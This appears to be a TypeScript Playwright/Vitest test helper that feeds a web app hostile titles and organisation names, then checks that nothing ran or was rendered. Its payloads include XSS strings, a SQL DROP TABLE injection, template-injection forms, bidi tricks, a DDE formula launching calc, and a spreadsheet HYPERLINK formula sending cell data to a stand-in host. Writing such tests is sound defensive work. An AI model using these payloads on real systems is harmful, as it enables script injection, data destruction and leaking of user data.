/** Words that would harm whoever takes them for more than words, and what a page shows that took them so. */
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { flat } from './texte';

/** Each would set this, were it run. */
export const TRAHI = 'trahi';
export const RUN = `window.${TRAHI}=1`;

export const TITRES = [
  `</title></script><script>${RUN}</script><img src=x onerror="${RUN}">`,
  `'; DROP TABLE projets; -- " ; \${${RUN}} {{${RUN}}} {@html ${RUN}}`,
  `\u202Eenvers\u2066 <svg onload="${RUN}"> \u2028 javascript:${RUN} ${'sans fin '.repeat(11_000)}`.trim(),
];
export const ORGANISMES = [
  `=HYPERLINK("http://vole.example/?"&A1;"Cliquez")`,
  `<iframe srcdoc="<script>parent.${TRAHI}=1</script>"></iframe>`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];
interface Seen {
  readonly ran: boolean;
  readonly strange: readonly string[];
  readonly links: readonly string[];
}

/** What ran, and what stands in the page that a word asked for. */
export const readHarm = (page: Page): Promise<Seen> =>
  page.evaluate((name) => {
    const strange =
      'iframe, b[onmouseover], img[src="x"], img[src^="http"], svg[onload], [onerror]';
    return {
      ran: name in window,
      strange: [...document.querySelectorAll(strange)].map((e) => e.outerHTML),
      links: [...document.querySelectorAll('a[href]')]
        .map((a) => a.getAttribute('href') ?? '')
        .filter((href) => /^javascript:|vole\.example/i.test(href)),
    };
  }, TRAHI);

export const expectHarmless = async (page: Page): Promise<void> =>
  expect(await readHarm(page)).toEqual({ ran: false, strange: [], links: [] });

/** Text of a page, spaces of every kind as one. */
export const bodyOf = async (page: Page): Promise<string> =>
  flat(await page.locator('main').innerText());
